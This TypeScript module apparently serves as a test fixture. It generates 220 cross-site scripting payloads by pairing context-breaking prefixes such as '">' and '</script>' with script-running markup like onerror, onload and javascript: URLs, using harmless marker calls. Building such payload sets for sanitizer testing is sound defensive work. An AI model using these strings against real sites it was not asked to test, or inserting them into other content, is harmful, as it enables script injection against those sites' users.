/** Calls that a page notices if one of them is ever executed. */
const calls = ['alert(1)', 'window.executed=1'] as const;

/** What breaks out of where a text stands: an attribute, a tag, a comment, a script, an address. */
const prefixes = [
  '',
  '">',
  "'>",
  '</script>',
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '\\u003c/script>',
  '`-',
  '\\";',
] as const;

const scripts = (call: string) => [
  `<script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<svg/onload=${call}>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<a href="javascript:${call}" autofocus onfocus=${call}>x</a>`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<style onload=${call}></style>`,
  `<object data="javascript:${call}"></object>`,
  `<math><mtext><img src=x onerror=${call}></mtext></math>`,
];

/** 220 texts, each of which executes a script where a page writes it as markup. */
export const scriptPayloads: readonly string[] = calls.flatMap((call) =>
  prefixes.flatMap((prefix) => scripts(call).map((script) => prefix + script)),
);
